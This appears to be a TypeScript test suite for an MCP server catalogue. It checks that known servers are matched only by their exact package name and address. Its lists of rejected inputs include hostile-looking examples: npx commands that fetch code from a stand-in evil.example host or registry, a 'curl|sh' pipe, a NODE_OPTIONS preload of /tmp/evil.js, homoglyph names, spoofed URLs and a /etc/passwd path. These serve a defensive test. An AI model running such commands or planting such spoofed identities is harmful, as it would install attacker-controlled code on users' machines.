// Servers of the catalogue: known by package and address, graded by their MCP access, compared.
import assert from 'node:assert/strict'
import { cpSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import test, { after, before } from 'node:test'
import { identityOf } from '../../stack/identity.ts'
import { CatalogueServers } from './catalogue-servers.ts'
import { cataloguePolicy, stackPolicy } from './policy.ts'

const folder = mkdtempSync(join(tmpdir(), 'agentgrade-catalogue-'))
after(() => rmSync(folder, { recursive: true, force: true }))
const shipped = join(import.meta.dirname, '../../../catalogue')
let catalogue: CatalogueServers

before(async () => {
  mkdirSync(join(folder, 'captured'))
  for (const slug of ['brave-search', 'exa', 'linear', 'shopify', 'groq'])
    cpSync(join(shipped, `${slug}.json`), join(folder, `${slug}.json`))
  for (const name of ['brave-search.mcp', 'exa.mcp', 'exa.openapi', 'shopify.mcp'])
    cpSync(
      join(shipped, `captured/${name}.evidence.json`),
      join(folder, `captured/${name}.evidence.json`),
    )
  catalogue = await CatalogueServers.open(folder)
})

const at = (text: string) => ({ text, line: 1 })
const started = (...words: string[]) => identityOf({ command: words.map(at), url: null })
const remote = (url: string) => identityOf({ command: null, url: at(url) })

test('what a server is looked up by holds no query, no user and no argument', () => {
  assert.deepEqual(remote('https://a.example/mcp/?key=1#x'), {
    package: null,
    address: 'https://a.example/mcp',
    doubt: null,
  })
  assert.equal(remote('https://${HOST}/mcp').address, null)
  assert.equal(remote('file:///etc/passwd').address, null)
  assert.equal(
    started('npx', 'mcp-remote', 'https://mcp.exa.ai/mcp').address,
    'https://mcp.exa.ai/mcp',
  )
  assert.deepEqual(started('npx', '-y', 'a@1.0.0', '--key', 'x'), {
    package: { registry: 'npm', name: 'a', version: '1.0.0' },
    address: null,
    doubt: null,
  })
  assert.equal(started('uvx', 'exa-mcp-server').package, null)
})

const KNOWN = 'exa-mcp-server'
const ADDRESS = 'https://mcp.exa.ai/mcp'
/** Somebody else's code or service under the name of a known server. */
const DISGUISES: readonly string[][] = [
  `npx ${KNOWN}@npm:evil@1.0.0`,
  `npx ${KNOWN}@https://evil.example/a.tgz`,
  `npx ${KNOWN}@file:../evil`,
  `npx ${KNOWN}@github:evil/evil`,
  `npx ${KNOWN}@git+ssh://git@evil.example/a.git`,
  `npx --registry https://evil.example ${KNOWN}`,
  `npx --registry=https://evil.example ${KNOWN}`,
  `npx -p ${KNOWN} -c curl|sh`,
  `npx -p ${KNOWN} evil`,
  `npx --package=${KNOWN} --package=evil evil`,
  `npx --call evil ${KNOWN}`,
  `npx --prefix /tmp/evil ${KNOWN}`,
  `npx --userconfig ${KNOWN} evil`,
  `npx --node-options=--require=/tmp/evil.js ${KNOWN}`,
  `npx ${KNOWN}@latest-evil`,
  `npx ${KNOWN}@^3`,
  `./npx ${KNOWN}`,
  `/tmp/npx ${KNOWN}`,
  `NPX ${KNOWN}`,
  `NODE_OPTIONS=--require=/tmp/evil.js npx ${KNOWN}`,
  `env npm_config_registry=https://evil.example npx ${KNOWN}`,
  `sh -c npx ${KNOWN}`,
  `npm exec --registry=https://evil.example -- ${KNOWN}`,
  `npx ./${KNOWN}`,
  `npx evil/${KNOWN}`,
  `npx -y ${KNOWN.replace('a', '\u0430')}`,
  `npx mcp-remote --resource ${ADDRESS} https://evil.example/mcp`,
  `npx mcp-remote https://evil.example/mcp ${ADDRESS}`,
].map((line) => line.split(' '))
const ADDRESSES = [
  'https://*@mcp.exa.ai/mcp',
  'https://ann@mcp.exa.ai/mcp',
  'https://mcp.exa.ai:8443/mcp',
  'https://mcp.ex\u0430.ai/mcp',
  'https://mcp.exa.ai\u3002evil.example/mcp',
  'https://mcp.exa.ai@evil.example/mcp',
  'https://mcp.exa.ai\\@evil.example/mcp',
  'https://mcp.*.ai/mcp',
  'https://mcp.exa.ai/*',
]

const LOADED = [
  'NODE_OPTIONS',
  'npm_config_x',
  'npm_config_key',
  'OPENSSL_CONF',
  'GCONV_PATH',
  'LOCPATH',
  'SSL_CERT_FILE',
  'HTTPS_PROXY',
  'SSH_ASKPASS',
  'JAVA_TOOL_OPTIONS',
  'WHATEVER_IS_NEXT',
  '_',
]

test('nothing that only looks like a known server has its grade or its place in a policy', async () => {
  const given = [
    ...DISGUISES.map((words) => ({ command: words.map(at), url: null })),
    ...ADDRESSES.map((url) => ({ command: null, url: at(url) })),
    ...LOADED.map((name) => ({
      command: ['npx', KNOWN].map(at),
      url: null,
      env: [{ name, value: '', line: 1 }],
    })),
    { command: ['npx', KNOWN].map(at), url: null, envNames: ['PATH'] },
  ].map((each, index) => ({
    name: `server-${index}`,
    env: [],
    envNames: [],
    headers: [],
    others: [],
    ...each,
  }))
  for (const server of given)
    assert.equal(await catalogue.known(identityOf(server as never)), null, JSON.stringify(server))
  const { allowed, denied } = await stackPolicy(given as never, catalogue, {
    least: 'F',
    isVerified: false,
  })
  assert.deepEqual([...allowed, ...denied], [])
})

test('the ordinary ways to start a known server are proven', async () => {
  for (const line of [
    `npx ${KNOWN}`,
    `npx -y ${KNOWN}@latest --tools all`,
    `npx --yes ${KNOWN}@3.1.2`,
    `npm exec -y -- ${KNOWN}`,
    `pnpm dlx ${KNOWN}`,
    `bunx ${KNOWN}`,
    `cmd /c npx -y ${KNOWN}`,
    `EXA_API_KEY=x EXA_BASE=y OTHER_TOKEN=z LOG_LEVEL=debug PORT=1 npx -y ${KNOWN}`,
    `npx -y mcp-remote@0.1.0 ${ADDRESS} --header X:y`,
  ])
    assert.equal((await catalogue.known(started(...line.split(' '))))?.slug, 'exa', line)
  assert.equal((await catalogue.known(remote(`${ADDRESS}/?key=1`)))?.slug, 'exa')
})

test('a package has its tools and its version, an address only the grade', async () => {
  const local = await catalogue.known(started('npx', '-y', 'exa-mcp-server'))
  assert.equal(local?.slug, 'exa')
  assert.equal(local?.tools?.length, 2)
  assert.match(local?.version ?? '', /^\d+\.\d+/)
  const hosted = await catalogue.known(remote('https://mcp.exa.ai/mcp?exaApiKey=1'))
  assert.deepEqual([hosted?.letter, hosted?.tools, hosted?.version], [local?.letter, null, null])
  assert.equal(await catalogue.known(started('npx', 'exa-mcp')), null)
  assert.equal(await catalogue.known(remote('https://mcp.exa.ai/other')), null)
})

test('better servers are graded better and do what this one does first of all', async () => {
  const better = await catalogue.better('brave-search', 'B')
  assert.deepEqual(
    better.map(({ slug }) => slug),
    ['exa'],
  )
  assert.deepEqual(await catalogue.better('exa', 'A'), [])
  assert.deepEqual(await catalogue.better('brave-search', null), [])
})

test('the catalogue as a policy: one matcher per entry, no address with a placeholder', async () => {
  const { allowed, denied, leftOut } = await cataloguePolicy(catalogue, {
    least: 'B+',
    isVerified: false,
  })
  assert.deepEqual(
    allowed.map(({ url, command }) => url ?? command?.join(' ')),
    ['https://mcp.exa.ai/mcp', 'npx -y exa-mcp-server'],
  )
  assert.deepEqual(
    denied.map(({ name }) => name),
    ['brave-search', 'shopify'],
  )
  assert.deepEqual(
    leftOut.map(({ name }) => name),
    ['linear'],
  )
})
